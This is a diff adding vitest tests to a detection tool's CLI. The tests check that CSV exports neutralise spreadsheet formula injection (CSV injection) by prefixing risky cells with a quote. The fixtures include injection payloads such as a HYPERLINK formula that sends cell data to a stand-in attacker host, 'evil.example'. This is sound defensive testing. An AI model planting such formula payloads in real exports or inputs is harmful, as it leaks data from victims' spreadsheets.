@@ -5,6 +5,7 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { loadCatalog } from '../../generators/catalog.ts';
+import { defuseFormula } from '../../generators/cli.ts';
 import { evaluateQuery } from '../../generators/ir/evaluator.ts';
 import { projectPath } from '../../generators/paths.ts';
 import { materialize } from '../../generators/replay/materialize.ts';
@@ -107,5 +108,33 @@ describe('detc run on query files', () => {
     expect(unparsed).toBeGreaterThan(1);
     expect(r.err).toContain(`21 events read as splunk azure_aad_signin (${unparsed} lines not parsed: they hold none of the rule's terms); 1 rows`);
     expect(r.rows).toEqual(expected);
+  });
+});
+
+describe('detc run --format csv, opened in a spreadsheet', () => {
+  // A cell starting with =, +, -, @, tab, CR or NUL is a formula to Excel, LibreOffice and Google
+  // Sheets (https://owasp.org/www-community/attacks/CSV_Injection; OWASP ASVS 5.0 V1.2.10 names
+  // the same characters): a sign-in log holds text an attacker chose, such as a user name.
+  it('writes a text that would start a formula after a \'; numbers, and texts that are plain numbers, as they are', () => {
+    for (const t of ['=HYPERLINK("http://x","y")', '+cmd', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\0=1', '-', '+']) expect(defuseFormula(t), JSON.stringify(t)).toBe(`'${t}`);
+    for (const t of ['-5', '+3.25', '-.5', '1e-3', '-2E+10', 'user@contoso.com', 'a=b', '', "'=quoted"]) expect(defuseFormula(t), JSON.stringify(t)).toBe(t);
+  });
+
+  it('defuses what an export holds, end to end, and still quotes a cell by RFC 4180', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)', '-2', 'alice@contoso.com'];
+    const file = join(dir, 'formulas.json');
+    writeFileSync(file, JSON.stringify(names.map((UserPrincipalName, i) => ({ TimeGenerated: '2026-07-01T10:00:00Z', UserPrincipalName, ResultType: String(-i) }))));
+    const query = join(dir, 'names.kql');
+    writeFileSync(query, 'SigninLogs\n| project UserPrincipalName, ResultType, Signed = toint(ResultType)\n');
+    const r = await runCli(projectPath(), 'run', query, '--events', file, '--now', '2026-07-01T11:00:00Z', '--format', 'csv');
+    expect(r.code).toBe(0);
+    expect(r.out.split('\n')).toEqual([
+      'UserPrincipalName,ResultType,Signed',
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",0,0`,
+      "'@SUM(1+1),-1,-1",
+      '-2,-2,-2',
+      'alice@contoso.com,-3,-3',
+      '',
+    ]);
   });
 });
